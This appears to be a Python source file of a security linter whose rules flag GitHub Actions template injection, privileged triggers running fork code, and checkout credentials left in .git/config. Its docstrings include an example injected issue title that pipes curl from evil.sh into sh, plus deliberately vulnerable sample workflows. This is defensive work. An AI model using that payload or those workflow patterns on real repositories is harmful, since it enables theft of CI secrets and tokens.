"""GHA: GitHub Actions workflow security, read from the parsed workflows and local actions with
positions: expressions injected into scripts, untrusted code under privileged triggers,
persisted credentials, what the token may do, which secrets reach which jobs, whether the pins
say what runs, caches in release jobs, publishing credentials, provenance and workflow linting."""

from __future__ import annotations

import re
import shlex
from collections.abc import Iterator
from typing import Any, NamedTuple

from prodready.findings import Severity, Violation, at_line
from prodready.project import Project
from prodready.project.expressions import fenced, flowing_contexts
from prodready.project.pins import action_tags
from prodready.project.workflows import (
    Expression,
    Script,
    Step,
    action_name,
    action_of,
    action_version,
    declared_inputs,
    env_names,
    env_value,
    grants_id_token,
    is_action,
    job_of,
    jobs,
    release_triggers,
    shell_of,
    token_use,
    triggers,
)
from prodready.project.yamldoc import YamlDoc
from prodready.rules import rule
from prodready.rules._memo import per_project

# Events that run with the base repository's secrets and a token that can write, for people
# with no access to the repository: whatever they put in the event's payload reaches the job.
PRIVILEGED = frozenset(
    {
        "pull_request_target",
        "issues",
        "issue_comment",
        "discussion",
        "discussion_comment",
        "workflow_run",
    }
)
PR_EVENTS = frozenset(
    {"pull_request_target", "pull_request", "pull_request_review", "pull_request_review_comment"}
)
# Text anyone with a GitHub account can write, and the events whose payload carries it.
_COMMIT = r"(?:message|author\.(?:name|email)|committer\.(?:name|email))"
EXTERNAL: tuple[tuple[re.Pattern[str], frozenset[str]], ...] = tuple(
    (re.compile(pattern), frozenset(events))
    for pattern, events in (
        (r"github\.event\.issue\.(?:title|body)", {"issues", "issue_comment"}),
        (
            r"github\.event\.pull_request\.(?:title|body|head\.ref|head\.label"
            r"|head\.repo\.(?:description|homepage|default_branch))",
            PR_EVENTS,
        ),
        (r"github\.head_ref", PR_EVENTS),
        (
            r"github\.event\.comment\.body",
            {
                "issue_comment",
                "discussion_comment",
                "pull_request_review_comment",
                "commit_comment",
            },
        ),
        (r"github\.event\.review\.body", {"pull_request_review"}),
        (r"github\.event\.discussion\.(?:title|body)", {"discussion", "discussion_comment"}),
        (r"github\.event\.(?:head_commit|commits\.\*)\." + _COMMIT, {"push"}),
        (
            r"github\.event\.workflow_run\.(?:head_branch|display_title|head_commit\."
            + _COMMIT
            + r"|pull_requests\.\*\.head\.ref|head_repository\.description)",
            {"workflow_run"},
        ),
        (r"github\.event\.changes\.(?:title|body)\.from", {"issues", "pull_request_target"}),
        (r"github\.event\.pages\.\*\.page_name", {"gollum"}),
        (
            r"github\.event\.(?:check_run\.)?check_suite\.head_branch",
            {"check_suite", "check_run"},
        ),
    )
)
# Contexts whose values are fixed by GitHub or the repository's owners, or can hold no shell
# syntax (logins, numbers, commit ids, `branch`/`tag`, `true`).
FIXED = re.compile(
    r"(?:secrets|vars|runner|job|jobs|strategy|steps\.[^.]+\.(?:outcome|conclusion)"
    r"|needs\.[^.]+\.result)(?:\..*)?"
    r"|github\.(?:sha|run_id|run_number|run_attempt|repository|repository_id|repository_owner"
    r"|repository_owner_id|repositoryurl|workspace|action_path|action|action_ref|action_repository"
    r"|action_status|event_name|job|server_url|api_url|graphql_url|token|actor|actor_id"
    r"|triggering_actor|ref_type|ref_protected|retention_days|workflow|workflow_ref|workflow_sha"
    r"|path|env|output|secret_source)"
)
# A repository's name and owner/name: letters, digits, `-`, `_` and `.` only.
REPOSITORY_NAME = re.compile(r"github\.event\..*(?:repo|repository)\.(?:name|full_name)")
FIXED_LEAF = re.compile(
    r"(?:\w*_)?(?:sha|id|number|url|at|count|login|state|draft|merged|fork|private|size|before"
    r"|after|conclusion|status|distinct|timestamp|additions|deletions|changed_files|commits"
    r"|comments|locked|forced|created|deleted|ref_type|type|author_association|action"
    r"|run_number|run_attempt|event|head_sha|base_sha|merge_commit_sha|position|line)"
)
# Conditions that keep strangers out of a job or step: whose event, or who triggered it.
GATE = re.compile(
    r"author_association|github\.actor|triggering_actor|sender\.login|event_name|head\.repo\.fork"
    r"|head\.repo\.full_name|\.user\.login"
)
# Who can write a context's text: nobody (NONE), only people with write access to the repository
# (MEMBER: dispatch inputs, this repository's callers, branch and tag names, release text,
# computed matrices), the workflows of other repositories that use a published action or
# reusable workflow (CALLER), anyone with a GitHub account (EXTERNAL_TEXT).
NONE, MEMBER, CALLER, EXTERNAL_TEXT = 0, 1, 2, 3
# An input whose default is a switch or a number: its callers write a literal, not text.
SWITCH_DEFAULT = re.compile(r"true|false|yes|no|on|off|\d+(?:\.\d+)*", re.I)
RUNNER_VARIABLES = {
    "github.head_ref": "GITHUB_HEAD_REF",
    "github.base_ref": "GITHUB_BASE_REF",
    "github.ref": "GITHUB_REF",
    "github.ref_name": "GITHUB_REF_NAME",
}
NAME_SAFE = re.compile(r"[a-z_][\w-]*(?:\.[a-z_][\w-]*)+")
QUOTED_HEREDOC = re.compile(r"<<-?\s*(?:'|\"|\\)")


class Taint(NamedTuple):
    """Who can choose the text of a context: NONE, MEMBER (people with write access), CALLER
    (other repositories' workflows) or EXTERNAL_TEXT (anyone); `certain` when it reaches a job
    that runs with secrets for an event a stranger triggers, ungated."""

    level: int
    certain: bool = False
    origin: str = ""

    def worse(self, other: Taint) -> Taint:
        return other if (other.level, other.certain) > (self.level, self.certain) else self


class Scope(NamedTuple):
    """Where an expression is evaluated: the document, the job, the step's own `env:`."""

    doc: YamlDoc
    job: dict[str, Any]
    step: dict[str, Any]
    triggers: frozenset[str]
    before: tuple[dict[str, Any], ...] = ()  # the steps of the job that run before this one


# A job that checks who asked before the others run (`needs:` it): a permission lookup, an
# output named for the answer.
PERMISSION_CHECK = re.compile(
    r"author_association|getCollaboratorPermissionLevel|/collaborators/|\bpermission\b"
    r"|needs\.[\w-]+\.outputs\.[\w-]*(?:authori[sz]|permission|allowed|trusted|member)",
    re.I,
)


def _job_gated(doc: YamlDoc, job: dict[str, Any], depth: int = 0) -> bool:
    """True when the job runs only for some people: its `if:` says so, or a job it needs
    checks the permission of whoever started the run."""
    if GATE.search(str(job.get("if", ""))) or PERMISSION_CHECK.search(str(job.get("if", ""))):
        return True
    needs = job.get("needs")
    names = [needs] if isinstance(needs, str) else needs if isinstance(needs, list) else []
    table = dict(jobs(doc))
    for name in names:
        needed = table.get(str(name))
        if needed is None or depth > 4:
            continue
        steps = needed.get("steps")
        text = repr(steps) + str(needed.get("if", ""))
        if PERMISSION_CHECK.search(text) or _job_gated(doc, needed, depth + 1):
            return True
    return False


def _gated(scope: Scope) -> bool:
    return bool(GATE.search(str(scope.step.get("if", "")))) or _job_gated(scope.doc, scope.job)


def _context_taint(p: Project, context: str, scope: Scope, depth: int) -> Taint:
    """The taint of one context (a lower-case dotted pattern) in a scope."""
    if depth > 6 or FIXED.fullmatch(context) or REPOSITORY_NAME.fullmatch(context):
        return Taint(NONE)
    for pattern, events in EXTERNAL:
        if pattern.fullmatch(context):
            reached = events & scope.triggers & PRIVILEGED
            return Taint(EXTERNAL_TEXT, bool(reached) and not _gated(scope), context)
    head, _, rest = context.partition(".")
    if context.startswith("github.event.inputs."):
        head, rest = "inputs", context.removeprefix("github.event.inputs.")
    if head == "inputs":
        return _input_taint(p, rest, scope, depth)
    if head == "env":
        return _env_taint(p, rest, scope, depth)
    if head == "matrix":
        return _matrix_taint(p, rest, scope, depth)
    if head == "github":
        if context.startswith("github.event."):
            leaf = context.rpartition(".")[2]
            return Taint(NONE) if FIXED_LEAF.fullmatch(leaf) else Taint(MEMBER, False, context)
        if context in ("github.ref", "github.ref_name", "github.base_ref", "github.event"):
            return Taint(MEMBER, False, context)
        return Taint(NONE)
    return Taint(NONE)  # step and job outputs, functions of them: not followed


def _input_taint(p: Project, name: str, scope: Scope, depth: int) -> Taint:
    """A string input is text its caller chooses: a local caller's value is followed; a
    dispatch's, or a local caller's written value, is written by people with write access; a
    published action's or reusable workflow's callers are other repositories."""
    kind = declared_inputs(scope.doc).get(name)
    if kind in ("boolean", "number", "choice", "environment"):
        return Taint(NONE)
    origin = f"inputs.{name}" if name else "inputs"
    published = _published(p, scope.doc) and not _switch(scope.doc, name)
    taint = Taint(CALLER if published else MEMBER, False, origin)
    for call in p.workflows.callers_of(scope.doc.path):
        value = next((v for k, v in call.with_.items() if str(k).lower() == name), None)
        values = [value] if name else list(call.with_.values())
        for value in (v for v in values if isinstance(v, str)):
            job = dict(jobs(call.doc)).get(call.job, {}) if not is_action(call.doc) else {}
            caller = Scope(call.doc, job, {}, frozenset(p.workflows.effective_triggers(call.doc)))
            found = _text_taint(p, value, caller, depth + 1)
            if found.level > MEMBER:
                taint = taint.worse(found)
    return taint


def _published(p: Project, doc: YamlDoc) -> bool:
    """True for an action or reusable workflow that other repositories use: an action outside
    `.github/` (the repository's root `action.yml` above all), a workflow called by no workflow
    of the repository that is not also started by hand or by an event."""
    if is_action(doc):
        return not doc.path.startswith(".github/")
    own = triggers(doc)
    return own == {"workflow_call"} and not p.workflows.callers_of(doc.path)


def _switch(doc: YamlDoc, name: str) -> bool:
    """True for an action input whose default is a switch or a number (`'yes'`, `'true'`,
    `'0'`): its callers write a literal."""
    table = _data(doc).get("inputs") if is_action(doc) else None
    for key, spec in table.items() if isinstance(table, dict) and name else []:
        if str(key).lower() == name and isinstance(spec, dict) and "default" in spec:
            return bool(SWITCH_DEFAULT.fullmatch(str(spec["default"]).strip()))
    return False


def _env_taint(p: Project, name: str, scope: Scope, depth: int) -> Taint:
    """A variable set by `env:` is as tainted as its value; one set elsewhere (`$GITHUB_ENV`)
    is not followed."""
    for env in (scope.step.get("env"), scope.job.get("env"), _data(scope.doc).get("env")):
        if isinstance(env, dict):
            for key, value in env.items():
                if str(key).lower() == name:
                    return _text_taint(p, str(value), scope, depth + 1)
    # written to $GITHUB_ENV by an earlier step: as tainted as what that step expands
    taint = Taint(NONE)
    written = re.compile(rf"(?<![\w-]){re.escape(name)}=", re.I)
    for step in scope.before:
        script = str(step.get("run", ""))
        if "GITHUB_ENV" in script and written.search(script):
            env = step.get("env")
            values = (
                [script, *(str(v) for v in env.values())] if isinstance(env, dict) else [script]
            )
            inner = scope._replace(step=step, before=())
            for value in values:
                taint = taint.worse(_text_taint(p, value, inner, depth + 1))
    return taint


def _matrix_taint(p: Project, name: str, scope: Scope, depth: int) -> Taint:
    """A matrix value written in the workflow is fixed; one computed (`fromJSON(...)`) or
    holding expressions is as tainted as they are, and an unknown one is text."""
    strategy = scope.job.get("strategy")
    matrix = strategy.get("matrix") if isinstance(strategy, dict) else None
    if isinstance(matrix, str):
        found = _text_taint(p, matrix, scope, depth + 1)
        return found if found.level else Taint(MEMBER, False, f"matrix.{name}")
    if not isinstance(matrix, dict):
        return Taint(NONE)
    key = name.partition(".")[0]
    values = [v for k, v in matrix.items() if str(k).lower() == key]
    include = matrix.get("include")
    if isinstance(include, str):
        values.append(include)
    for entry in include if isinstance(include, list) else []:
        if isinstance(entry, dict):
            values += [v for k, v in entry.items() if str(k).lower() == key]
    taint = Taint(NONE)
    for value in values:
        taint = taint.worse(_text_taint(p, repr(value), scope, depth + 1))
        if isinstance(value, str) and value.strip().startswith("${{") and not taint.level:
            taint = Taint(MEMBER, False, f"matrix.{name}")
    return taint


def _text_taint(p: Project, text: str, scope: Scope, depth: int) -> Taint:
    """The worst taint of the expressions in a text."""
    taint = Taint(NONE)
    for _, inner in fenced(text):
        for context in flowing_contexts(inner) or []:
            taint = taint.worse(_context_taint(p, context, scope, depth))
    return taint


def _data(doc: YamlDoc) -> dict[str, Any]:
    return doc.data if isinstance(doc.data, dict) else {}


def _scope(p: Project, step: Step) -> Scope:
    job = job_of(step)
    if step.in_action:
        runs = _data(step.doc).get("runs")
        listed = runs.get("steps") if isinstance(runs, dict) else None
    else:
        listed = job.get("steps")
    before = tuple(
        s
        for s in (listed if isinstance(listed, list) else [])[: step.position]
        if isinstance(s, dict)
    )
    return Scope(
        step.doc, job, step.data, frozenset(p.workflows.effective_triggers(step.doc)), before
    )


class Injection(NamedTuple):
    script: Script
    expression: Expression
    taint: Taint
    context: str  # the one context of the expression, when it is nothing else


def injections(p: Project) -> Iterator[Injection]:
    """Every expression of a script that can bring in text someone else chose."""
    for script in p.workflows.scripts:
        scope = _scope(p, script.step)
        for expression in script.expressions:
            flows = flowing_contexts(expression.inner)
            taint = Taint(NONE)
            for context in flows or []:
                taint = taint.worse(_context_taint(p, context, scope, 0))
            if taint.level:
                inner = expression.inner.strip()
                single = inner.lower() if flows == [inner.lower()] else ""
                yield Injection(script, expression, taint, single)


@rule(
    "GHA001",
    "template-injection",
    severity="E",
    fix="safe",
    source="GitHub Docs, Security hardening for GitHub Actions: understanding the risk of script injections (https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections)",
    peers=("zizmor:template-injection", "scorecard:Dangerous-Workflow"),
)
def template_injection(p: Project) -> Iterator[Violation]:
    """A `${{ }}` expression that someone else can write is expanded inside a script.

    ## What it does
    Reads the expressions inside `run:` scripts and inside the inputs that actions run as code
    (`actions/github-script`'s `script:`, and the others of CodeQL's list of injection sinks),
    in workflows and in the repository's composite actions, and reports each whose text can be
    chosen by someone else: the title or body of an issue, a pull request, a comment, a review
    or a discussion, a pull request's branch (`github.head_ref`, `head.ref`), a commit message
    or author, the branch of a `workflow_run`, string inputs of `workflow_dispatch` and
    `workflow_call` (and of composite actions), branch and tag names (`github.ref_name`,
    `github.base_ref`), and the `env:` variables and matrix values computed from any of these.
    Expressions are read as GitHub evaluates them: `contains(github.event.issue.title, 'bug')` or
    `github.head_ref == 'main'` are booleans and stay quiet. Local reusable workflows and
    composite actions are followed: an input is as dangerous as what a local caller passes.

    The severity says who can write the text, as a class:

    - **error**: anyone with a GitHub account (an issue's, pull request's, comment's, review's
      or discussion's text, a pull request's branch, a fork's data, the branch of a
      `workflow_run`), for an event that gives strangers the repository's secrets and a token
      that can write (`issues`, `issue_comment`, `pull_request_target`, `workflow_run`,
      `discussion`), and nothing gates the job or step (an `if:` on `author_association`,
      `github.actor`, `github.event_name`, the pull request's repository, or a needed job that
      checks the commenter's permission).
    - **warning**: the same text where the job holds no secrets for strangers (`pull_request`,
      a commit message on `push`) or only some people start it; and the inputs of a published
      action or reusable workflow (the repository's root `action.yml`, an action outside
      `.github/`, a reusable workflow no workflow of the repository calls), whose callers are
      other repositories that may pass their own untrusted text. An input whose default is a
      switch or a number (`'yes'`, `'true'`, `'0'`) is written as a literal by its callers:
      info.
    - **info**: text only people with write access can set: `workflow_dispatch` inputs,
      `workflow_call` and composite action inputs whose callers are this repository's own
      workflows (what those pass is followed), branch and tag names of pushes
      (`github.ref_name`, `github.base_ref`), release text, labels, a `repository_dispatch`
      payload, and matrices computed from the repository's own files (under `pull_request`
      those files are the pull request's, whose author runs their own code there anyway). It
      is hardening, not an exploitable hole: a tag named `$(curl …)` is an attack only by
      someone who could push code. It is still reported, since a value typed in a hurry can
      break the script, and moving it to `env:` costs nothing.

    Quiet for contexts that hold no shell syntax (commit ids, numbers, logins, repository
    names, `github.ref_type`, `secrets.*`, `runner.*`), for booleans and choices of typed
    inputs, for matrix values written in the workflow, and for step and job outputs (not
    followed).

    ## Why it matters
    GitHub pastes the expression's text into the script before the shell reads it: an issue
    titled `a"; curl -sSf evil.sh | sh; echo "` runs the attacker's commands with the workflow's
    token and secrets. Every year, projects lose their release credentials this way.

    ## Example
    ```yaml
    on: issues
    jobs:
      triage:
        runs-on: ubuntu-latest
        steps:
          - run: echo "New issue: ${{ github.event.issue.title }}"
    ```

    ## Use instead
    ```yaml
          - run: echo "New issue: $TITLE"
            env:
              TITLE: ${{ github.event.issue.title }}
    ```

    ## Fix
    `prodready fix` moves an expression that is one context into the step's `env:` and has the
    script read the variable (`"${TITLE}"`; `$env:TITLE` in PowerShell; the runner's own
    `GITHUB_HEAD_REF` and `GITHUB_REF_NAME` are used as they are), in `run:` scripts of bash,
    sh and pwsh only, and not where the expression sits inside single quotes or a quoted
    here-document (where a variable would not expand). Scripts of `actions/github-script` read
    the variable as `process.env.TITLE`: edit those by hand.
    """
    for found in injections(p):
        script, expression, taint = found.script, found.expression, found.taint
        where = (
            "a run: script"
            if script.is_run
            else f"the {script.keys[-1]} input of {script.step.action}"
        )
        why = _why(taint)
        line_start = script.step.doc.text.rfind("\n", 0, expression.offset) + 1
        yield Violation(
            f"{expression.raw.strip()} is expanded into {where}: {why}; pass it through env: instead",
            script.step.doc.path,
            expression.line,
            expression.offset - line_start + 1,
            _env_fix(p, found),
            fixable=bool(_env_fix(p, found)),
            severity=_severity(taint),
        )


def _severity(taint: Taint) -> Severity | None:
    """The rule's error where a stranger reaches the secrets, a warning where strangers or other
    repositories write the text, info where only people with write access do."""
    if taint.certain:
        return None
    return Severity.WARNING if taint.level >= CALLER else Severity.INFO


def _why(taint: Taint) -> str:
    origin = taint.origin
    if taint.certain:
        return f"anyone can write {origin} for an event that starts this job with its secrets"
    if taint.level == EXTERNAL_TEXT:
        return f"anyone can write {origin}"
    if taint.level == CALLER:
        return f"{origin} is written by the workflows of other repositories that use this one"
    if origin.startswith("inputs"):
        return f"{origin} is chosen by whoever dispatches the workflow or calls it in this repository (people with write access)"
    if origin.startswith("matrix."):
        return f"{origin} is computed while the workflow runs, from the repository's own files"
    if origin in ("github.ref", "github.ref_name", "github.base_ref") or origin.endswith("ref"):
        return f"{origin} is a branch or tag name, pushed by people with write access"
    return f"{origin} is written by people with write access (a release, a label, a dispatch)"


def _env_fix(p: Project, found: Injection) -> tuple[str | int, ...]:
    """What the fixer needs to move the expression into `env:`: (variable, text to write in the
    script, the expression as written, key path of the script), or () where no safe fix is
    known."""
    script, context = found.script, found.context
    if not script.is_run or not context or not NAME_SAFE.fullmatch(context):
        return ()
    shell = shell_of(script.step).split()[0] if shell_of(script.step).strip() else ""
    runs_on = str(job_of(script.step).get("runs-on", "")).lower()
    if shell == "" and not script.step.in_action:
        shell = "pwsh" if "windows" in runs_on else "bash"
    if shell not in ("bash", "sh", "pwsh"):
        return ()
    if context.startswith("env."):
        name = context[4:]
        if env_value(script.step, name) is None or not re.fullmatch(r"[A-Za-z_]\w*", name):
            name = ""
        else:
            # `${{ env.X }}` and `$X` are the same text only when `env:` spells X in this case
            name = next((k for k in _env_names(script.step) if k == name or k.lower() == name), "")
    else:
        short = context.removeprefix("github.event.").removeprefix("github.")
        name = RUNNER_VARIABLES.get(context) or short.replace("-", "_").replace(".", "_").upper()
        value = env_value(script.step, name)
        if value is not None and " ".join(str(value).split()) != f"${{{{ {context} }}}}":
            return ()  # the name is taken by another value
    if not name:
        return ()
    raw = found.expression.raw
    if not _expands_where_written(script, raw):
        return ()
    written = f"$env:{name}" if shell == "pwsh" else f"${{{name}}}"
    return (name, written, raw, *script.keys)


def _env_names(step: Step) -> list[str]:
    job_env = job_of(step).get("env")
    workflow = _data(step.doc).get("env")
    names: list[str] = []
    for env in (step.env, job_env, workflow):
        names += [str(k) for k in env] if isinstance(env, dict) else []
    return names


def _expands_where_written(script: Script, raw: str) -> bool:
    """True when a shell variable written where the expression is would expand: not inside
    single quotes on its line, and the script has no quoted here-document."""
    if QUOTED_HEREDOC.search(script.text):
        return False
    for line in script.text.splitlines():
        at = line.find(raw)
        while at >= 0:
            if _in_single_quotes(line[:at]):
                return False
            at = line.find(raw, at + 1)
    return raw in script.text


def _in_single_quotes(prefix: str) -> bool:
    quote = ""
    escaped = False
    for char in prefix:
        if escaped:
            escaped = False
        elif char == "\\" and quote != "'":
            escaped = True
        elif quote:
            quote = "" if char == quote else quote
        elif char in "'\"":
            quote = char
    return quote == "'"


# A checkout of the code that started a `workflow_run`, or of a pull request named in a comment.
RUN_HEAD = re.compile(
    r"github\.event\.workflow_run\.(?:head_sha|head_branch|head_commit\.id|pull_requests)"
)
COMMENTED_PR = re.compile(
    r"refs/pull/|github\.event\.issue\.pull_request|github\.event\.issue\.number"
    r"|steps\.[\w-]+\.outputs\.(?:head_?(?:ref|sha)|pr_?head\w*|ref|sha)"
    r"|needs\.[\w-]+\.outputs\.(?:head_?(?:ref|sha)|pr_?head\w*)",
    re.I,
)
PR_CHECKOUT_COMMAND = re.compile(r"\bgh\s+pr\s+checkout\b|\bgit\s+fetch\b[^\n]*\bpull/")
SAME_REPOSITORY_RUN = re.compile(
    r"head_repository\.full_name\s*==|==\s*github\.event\.workflow_run\.head_repository\.full_name"
    r"|head_repository\.fork\s*==\s*false|workflow_run\.event\s*==\s*'push'"
    r"|workflow_run\.event\s*!=\s*'pull_request'"
)
RUN_ARTIFACT = re.compile(r"github\.event\.workflow_run\.id|workflow_run")
ARTIFACT_ACTIONS = ("actions/download-artifact", "dawidd6/action-download-artifact")
EXECUTES = r"(?:bash|sh|source|\.|python3?|node|sudo|chmod\s+\+x)\s+"


def _job_steps(p: Project, step: Step) -> list[Step]:
    listed = p.workflows.action_steps if step.in_action else p.workflows.steps
    return [s for s in listed if s.doc is step.doc and s.job == step.job]


def _runs_after(p: Project, step: Step) -> bool:
    """True when a later step of the job runs code of the working tree."""
    from prodready.rules.sec import RUNS_WORKSPACE

    return any(
        later.position > step.position
        and (later.uses.startswith("./") or bool(RUNS_WORKSPACE.search(later.run)))
        for later in _job_steps(p, step)
    )


def _gated_to_members(step: Step) -> bool:
    scope_if = f"{job_of(step).get('if', '')} {step.data.get('if', '')}"
    if GATE.search(scope_if) or SAME_REPOSITORY_RUN.search(" ".join(scope_if.split())):
        return True
    return not step.in_action and _job_gated(step.doc, job_of(step))


PRIVILEGED_TRIGGERS = frozenset({"issue_comment", "pull_request_target", "workflow_run"})


@rule(
    "GHA002",
    "dangerous-triggers",
    severity="E",
    source="GitHub Security Lab, Keeping your GitHub Actions and workflows secure: preventing pwn requests (https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/)",
    peers=("zizmor:dangerous-triggers", "scorecard:Dangerous-Workflow"),
)
def dangerous_triggers(p: Project) -> Iterator[Violation]:
    """A privileged workflow runs code from a fork: a `workflow_run` or a comment's pull request.

    ## What it does
    Reports, as an **error**, a checkout in a `workflow_run` workflow of the code that started the
    run (`ref:` from `github.event.workflow_run.head_sha`, `head_branch`, its pull requests),
    and a checkout in an `issue_comment` workflow of the pull request commented on
    (`refs/pull/…`, `gh pr checkout`, a head ref or sha from an earlier step), when a later step
    of the job runs code of the working tree (an install, a build, an interpreter, a script of
    the checkout, a local action). Reports as a **warning** an artifact downloaded from the
    triggering run (`run-id: ${{ github.event.workflow_run.id }}`) that a later step executes
    (`bash`, `python`, `source`, `./` on a file of the artifact's folder).

    Quiet when the job or step runs only for the repository's own branches or members (an `if:`
    on `head_repository.full_name`, `workflow_run.event == 'push'`, `author_association`,
    `github.actor`), and for a checkout that only reads files. `pull_request_target` checkouts
    of the pull request are SEC008's. Every other workflow that runs on `pull_request_target`,
    `workflow_run` or `issue_comment` (as zizmor's `dangerous-triggers` reports them all) gets an
    **info** finding at its trigger: a reminder of what the trigger grants, not a hole found.

    ## Why it matters
    `workflow_run` and `issue_comment` run in the base repository with its secrets and a token
    that can write, even when a fork started them: running the fork's code there hands both to
    its author ("pwn request"). An artifact of the triggering run was built by that code too.

    ## Example
    ```yaml
    on:
      workflow_run:
        workflows: [CI]
        types: [completed]
    jobs:
      report:
        runs-on: ubuntu-latest
        steps:
          - uses: actions/checkout@v4
            with:
              ref: ${{ github.event.workflow_run.head_sha }}
          - run: pip install . && python scripts/report.py
    ```

    ## Use instead
    Check out the base repository (no `ref:`) and treat the triggering run's artifacts as data:
    read them, never execute them; or run the job only for the repository's own branches:
    ```yaml
        if: github.event.workflow_run.head_repository.full_name == github.repository
    ```

    ## Fix
    Not automatic: which code the job may run is a decision of the workflow's authors.
    """
    reported: set[str] = set()
    for found in _dangerous_trigger_findings(p):
        reported.add(str(found.path))
        yield found
    for doc in p.workflows.docs:
        used = sorted(triggers(doc) & PRIVILEGED_TRIGGERS)
        if used and doc.path not in reported:
            yield Violation(
                f"the workflow runs on `{used[0]}`, with the repository's secrets and a write token "
                "on events anyone can start: keep the fork's code and artifacts out of it",
                doc.path,
                doc.line_of("on", used[0]),
                1,
                severity=Severity.INFO,
            )


def _dangerous_trigger_findings(p: Project) -> Iterator[Violation]:
    for step in p.workflows.steps:
        events = p.workflows.effective_triggers(step.doc)
        if _gated_to_members(step):
            continue
        if "workflow_run" in events:
            yield from _workflow_run_findings(p, step)
        if "issue_comment" in events:
            ref = str(step.with_.get("ref", ""))
            checks_out = (step.action == "actions/checkout" and COMMENTED_PR.search(ref)) or (
                PR_CHECKOUT_COMMAND.search(step.run)
            )
            if checks_out and _runs_after(p, step):
                yield Violation(
                    "an issue_comment workflow checks out the commented pull request and runs its code with the repository's secrets",
                    step.doc.path,
                    step.line,
                    1,
                )


def _workflow_run_findings(p: Project, step: Step) -> Iterator[Violation]:
    if step.action == "actions/checkout":
        ref = f"{step.with_.get('ref', '')} {step.with_.get('repository', '')}"
        if RUN_HEAD.search(ref) and _runs_after(p, step):
            yield Violation(
                "a workflow_run workflow checks out the triggering run's code and runs it with the repository's secrets",
                step.doc.path,
                step.line,
                1,
            )
    if step.action in ARTIFACT_ACTIONS:
        options = " ".join(str(v) for v in step.with_.values())
        folder = str(step.with_.get("path", "")).strip().removeprefix("./").rstrip("/")
        if not RUN_ARTIFACT.search(options) or not folder or folder.startswith("${{"):
            return
        executes = re.compile(
            rf"(?:^|[\s;&|(]){EXECUTES}(?:\./)?{re.escape(folder)}/|(?:^|[\s;&|(])\./{re.escape(folder)}/",
            re.M,
        )
        for later in _job_steps(p, step):
            if later.position > step.position and executes.search(later.run):
                yield Violation(
                    f"an artifact of the triggering run is downloaded to {folder}/ and executed with the repository's secrets",
                    step.doc.path,
                    step.line,
                    1,
                    severity=Severity.WARNING,
                )
                return


# Actions that push with the credentials a checkout leaves in `.git/config`, or whose name
# says they may (commits, pages, releases, tags): their jobs keep the credentials.
PUSHING_ACTIONS = re.compile(
    r"peter-evans/create-pull-request|stefanzweifel/git-auto-commit-action|endbug/add-and-commit"
    r"|ad-m/github-push-action|actions-js/push|github-actions-x/commit|jamesives/github-pages-deploy-action"
    r"|python-semantic-release/|(?:^|/)[^/]*(?:commit|push|pages|deploy|release|bump|version|tag"
    r"|changelog|pull-request|backport|merge|sync|mirror|publish|autofix|format|pre-commit)"
    r"|(?:^|/|-)git(?:-|$)",
    re.I,
)
PUSHING_COMMANDS = re.compile(
    r"\bgit\b[^\n]*\b(?:push|pull|fetch|remote|submodule|ls-remote|tag)\b|\bgh-deploy\b"
    r"|\bghp-import\b|--push\b|\bsemantic-release\b|\bcz\s+bump\b|\bbump-my-version\b"
    r"|\btowncrier\b|\bpre-commit\b|\bgit\s+-C\b|\bgit\s+config\b"
)
WORKSPACE_PATHS = re.compile(
    r"^(?:\.|\./|\.\.|\.\./|\$\{\{\s*github\.workspace\s*\}\}/?)$|(?:^|/)\.git(?:/|$)"
)


def _pushes(p: Project, checkout: Step) -> bool:
    """True when something in the checkout's job may use the persisted credentials (a git
    command that talks to the remote, an action that commits, a local action or reusable
    step that is not read)."""
    for step in _job_steps(p, checkout):
        if step.position <= checkout.position:
            continue
        if PUSHING_COMMANDS.search(step.run) or (step.uses and PUSHING_ACTIONS.search(step.action)):
            return True
        if step.uses.startswith("./"):
            return True
    return False


def _uploads_workspace(p: Project, checkout: Step) -> bool:
    for step in _job_steps(p, checkout):
        if step.position > checkout.position and step.action == "actions/upload-artifact":
            paths = str(step.with_.get("path", "")).split("\n")
            if any(WORKSPACE_PATHS.search(path.strip()) for path in paths if path.strip()):
                return True
    return False


@rule(
    "GHA003",
    "artipacked",
    fix="safe",
    source="zizmor artipacked, after Palo Alto Networks Unit 42 'ArtiPACKED' (https://unit42.paloaltonetworks.com/github-repo-artifacts-leak-tokens/)",
    peers=("zizmor:artipacked",),
)
def artipacked(p: Project) -> Iterator[Violation]:
    """`actions/checkout` leaves the job's token in `.git/config`.

    ## What it does
    Reports `actions/checkout` steps (in workflows and in local composite actions) without
    `persist-credentials: false`. It is a **warning** when a later step of the job uploads the
    working tree as an artifact (`path: .`, `${{ github.workspace }}`, `.git`), which publishes
    the token to anyone who can download the artifact; otherwise it is **info**: every later
    step of the job, and every tool it installs, can read the token from `.git/config`.
    Quiet for checkouts that set `persist-credentials` (to `true` it is a choice).

    ## Why it matters
    The checkout writes the `GITHUB_TOKEN` (or the `token:` given) into `.git/config` so that
    later `git push` works. A job that never pushes does not need it there, and an uploaded
    workspace or a compromised build dependency can take it ("ArtiPACKED", 2024).

    ## Example
    ```yaml
    - uses: actions/checkout@v4
    - run: pip install . && pytest
    - uses: actions/upload-artifact@v4
      with:
        path: .
    ```

    ## Use instead
    ```yaml
    - uses: actions/checkout@v4
      with:
        persist-credentials: false
    ```

    ## Fix
    `prodready fix` adds `persist-credentials: false` to checkouts whose job does not use the
    credentials: no later `git push`/`fetch`/`pull`/`tag`/`remote`/`submodule` command, no
    `gh-deploy`, `ghp-import`, `--push`, `semantic-release`, `pre-commit`, no local action
    (not read), no action whose name says it commits, pushes, deploys, releases or formats
    (`peter-evans/create-pull-request`, `stefanzweifel/git-auto-commit-action`,
    `EndBug/add-and-commit`, `ad-m/github-push-action` …), and no `token:` or `ssh-key:` given
    to the checkout. The others are left to be edited by hand.
    """
    for step in p.workflows.steps + p.workflows.action_steps:
        if step.action != "actions/checkout" or "persist-credentials" in step.with_:
            continue
        uploads = _uploads_workspace(p, step)
        keeps = _pushes(p, step) or "token" in step.with_ or "ssh-key" in step.with_
        message = (
            "the checkout leaves the job's token in .git/config and a later step uploads the working tree"
            if uploads
            else "the checkout leaves the job's token in .git/config for every later step; set persist-credentials: false"
        )
        yield Violation(
            message,
            step.doc.path,
            step.doc.line_of(*step.path, "uses"),
            1,
            tuple(step.path) if not keeps else (),
            fixable=not keeps,
            severity=None if uploads else Severity.INFO,
        )


# `${{ ... }}` expressions, and the secrets they read (`secrets.NAME`, `secrets['NAME']`)
